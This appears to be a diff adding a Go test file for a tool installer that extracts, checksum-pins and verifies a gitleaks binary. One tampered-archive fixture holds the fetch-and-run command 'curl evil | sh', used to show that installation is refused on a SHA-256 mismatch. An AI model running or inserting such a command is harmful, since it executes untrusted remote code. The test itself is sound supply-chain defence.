@@ -0,0 +1,203 @@
+package tools
+
+import (
+	"archive/tar"
+	"archive/zip"
+	"bytes"
+	"compress/gzip"
+	"context"
+	"crypto/sha256"
+	"encoding/hex"
+	"os"
+	"path/filepath"
+	"runtime"
+	"strings"
+	"testing"
+)
+
+var binary = []byte("#!/bin/sh\necho gitleaks version 8.18.1\n")
+
+func tarGz(t *testing.T, files map[string][]byte) []byte {
+	t.Helper()
+	var buf bytes.Buffer
+	gz := gzip.NewWriter(&buf)
+	tw := tar.NewWriter(gz)
+	// Каталог и файлы с похожими именами не должны мешать поиску бинарника
+	if err := tw.WriteHeader(&tar.Header{Name: "gitleaks_8.18.1/", Typeflag: tar.TypeDir, Mode: 0o755}); err != nil {
+		t.Fatal(err)
+	}
+	for name, data := range files {
+		if err := tw.WriteHeader(&tar.Header{Name: name, Typeflag: tar.TypeReg, Mode: 0o755, Size: int64(len(data))}); err != nil {
+			t.Fatal(err)
+		}
+		if _, err := tw.Write(data); err != nil {
+			t.Fatal(err)
+		}
+	}
+	if err := tw.Close(); err != nil {
+		t.Fatal(err)
+	}
+	if err := gz.Close(); err != nil {
+		t.Fatal(err)
+	}
+	return buf.Bytes()
+}
+
+func zipArchive(t *testing.T, files map[string][]byte) []byte {
+	t.Helper()
+	var buf bytes.Buffer
+	zw := zip.NewWriter(&buf)
+	for name, data := range files {
+		w, err := zw.Create(name)
+		if err != nil {
+			t.Fatal(err)
+		}
+		if _, err := w.Write(data); err != nil {
+			t.Fatal(err)
+		}
+	}
+	if err := zw.Close(); err != nil {
+		t.Fatal(err)
+	}
+	return buf.Bytes()
+}
+
+func TestExtract(t *testing.T) {
+	files := map[string][]byte{
+		"gitleaks_8.18.1/README.md":     []byte("readme"),
+		"gitleaks_8.18.1/gitleaks":      binary,
+		"gitleaks_8.18.1/gitleaks.sha1": []byte("not the binary"),
+	}
+	tests := []struct {
+		name    string
+		archive string
+		data    []byte
+		want    []byte
+		wantErr string
+	}{
+		{"tar.gz", "gitleaks_8.18.1_linux_x64.tar.gz", tarGz(t, files), binary, ""},
+		{"tgz", "gitleaks.tgz", tarGz(t, files), binary, ""},
+		{"zip", "gitleaks_8.18.1_windows_x64.zip", zipArchive(t, files), binary, ""},
+		{"raw binary", "gitleaks-linux-amd64", binary, binary, ""},
+		{"missing in tar.gz", "x.tar.gz", tarGz(t, map[string][]byte{"README.md": nil}), nil, "not found"},
+		{"missing in zip", "x.zip", zipArchive(t, map[string][]byte{"README.md": nil}), nil, "not found"},
+		{"corrupt tar.gz", "x.tar.gz", []byte("this is not a gzip stream"), nil, "gzip"},
+		{"corrupt zip", "x.zip", []byte("not zip"), nil, "zip"},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			got, err := extract(tt.archive, tt.data, "gitleaks")
+			if tt.wantErr != "" {
+				if err == nil || !strings.Contains(err.Error(), tt.wantErr) {
+					t.Fatalf("extract: err = %v, want %q", err, tt.wantErr)
+				}
+				return
+			}
+			if err != nil {
+				t.Fatal(err)
+			}
+			if !bytes.Equal(got, tt.want) {
+				t.Errorf("extract = %q, want %q", got, tt.want)
+			}
+		})
+	}
+}
+
+// fixture — манифест с одним инструментом и зеркало с его архивом;
+// HOME указывает во временный каталог, чтобы установка не трогала ~/.cache
+func fixture(t *testing.T, archive []byte, pinned string) (*Manifest, string) {
+	t.Helper()
+	t.Setenv("HOME", t.TempDir())
+	mirror := t.TempDir()
+	tool := &Tool{
+		Version: "8.18.1",
+		URL:     "https://example.com/v{version}/gitleaks_{version}_{os}_{arch}.tar.gz",
+		SHA256:  map[string]string{Platform(): pinned},
+	}
+	name := filepath.Base(tool.Source())
+	if err := os.WriteFile(filepath.Join(mirror, name), archive, 0o644); err != nil {
+		t.Fatal(err)
+	}
+	return &Manifest{Tools: map[string]*Tool{"gitleaks": tool}}, mirror
+}
+
+func sum(data []byte) string {
+	h := sha256.Sum256(data)
+	return hex.EncodeToString(h[:])
+}
+
+func TestInstallChecksumMismatch(t *testing.T) {
+	archive := tarGz(t, map[string][]byte{"gitleaks": binary})
+	tampered := tarGz(t, map[string][]byte{"gitleaks": []byte("#!/bin/sh\ncurl evil | sh\n")})
+	m, mirror := fixture(t, tampered, sum(archive))
+
+	_, err := Install(context.Background(), m, "gitleaks", InstallOptions{Mirror: mirror, Offline: true})
+	if err == nil || !strings.Contains(err.Error(), "SHA-256 mismatch") {
+		t.Fatalf("Install: err = %v, want SHA-256 mismatch", err)
+	}
+	tool, _ := m.Get("gitleaks")
+	if _, err := os.Stat(pinnedPath("gitleaks", tool)); !os.IsNotExist(err) {
+		t.Errorf("binary must not be installed on mismatch (stat: %v)", err)
+	}
+}
+
+func TestInstallWithoutChecksum(t *testing.T) {
+	archive := tarGz(t, map[string][]byte{"gitleaks": binary})
+	m, mirror := fixture(t, archive, "")
+	_, err := Install(context.Background(), m, "gitleaks", InstallOptions{Mirror: mirror, Offline: true})
+	if err == nil || !strings.Contains(err.Error(), "no SHA-256 pinned") {
+		t.Fatalf("Install: err = %v, want missing checksum error", err)
+	}
+}
+
+func TestInstallAndVerify(t *testing.T) {
+	if runtime.GOOS == "windows" {
+		t.Skip("pinned archives are tar.gz")
+	}
+	archive := tarGz(t, map[string][]byte{"gitleaks_8.18.1/gitleaks": binary})
+	m, mirror := fixture(t, archive, sum(archive))
+
+	rec, err := Install(context.Background(), m, "gitleaks", InstallOptions{Mirror: mirror, Offline: true})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if rec.ArchiveSHA256 != sum(archive) || rec.BinarySHA256 != sum(binary) {
+		t.Errorf("install record sums = %s, %s", rec.ArchiveSHA256, rec.BinarySHA256)
+	}
+	UseManifest(m)
+	if path, from, _ := Resolve("gitleaks"); from != FromPinned || path != rec.Path {
+		t.Errorf("Resolve = %s (%s), want pinned %s", path, from, rec.Path)
+	}
+	if _, err := Verify(m, "gitleaks"); err != nil {
+		t.Fatalf("Verify after install: %v", err)
+	}
+
+	// Подмена бинарника после установки
+	if err := os.WriteFile(rec.Path, []byte("#!/bin/sh\nexit 0\n"), 0o755); err != nil {
+		t.Fatal(err)
+	}
+	if _, err := Verify(m, "gitleaks"); err == nil || !strings.Contains(err.Error(), "modified after installation") {
+		t.Fatalf("Verify: err = %v, want modified binary", err)
+	}
+
+	// Манифест закрепил другую сумму архива (новая сборка той же версии)
+	m.Tools["gitleaks"].SHA256[Platform()] = strings.Repeat("0", 64)
+	if _, err := Verify(m, "gitleaks"); err == nil || !strings.Contains(err.Error(), "manifest now pins") {
+		t.Fatalf("Verify: err = %v, want manifest mismatch", err)
+	}
+}
+
+func TestVerifyNotInstalled(t *testing.T) {
+	m, _ := fixture(t, nil, strings.Repeat("a", 64))
+	if _, err := Verify(m, "gitleaks"); err == nil || !strings.Contains(err.Error(), "is not installed") {
+		t.Fatalf("Verify: err = %v, want not installed", err)
+	}
+}
+
+func TestInstallOfflineRefusesDownload(t *testing.T) {
+	m, _ := fixture(t, nil, strings.Repeat("a", 64))
+	_, err := Install(context.Background(), m, "gitleaks", InstallOptions{Offline: true})
+	if err == nil || !strings.Contains(err.Error(), "--offline") {
+		t.Fatalf("Install: err = %v, want offline refusal", err)
+	}
+}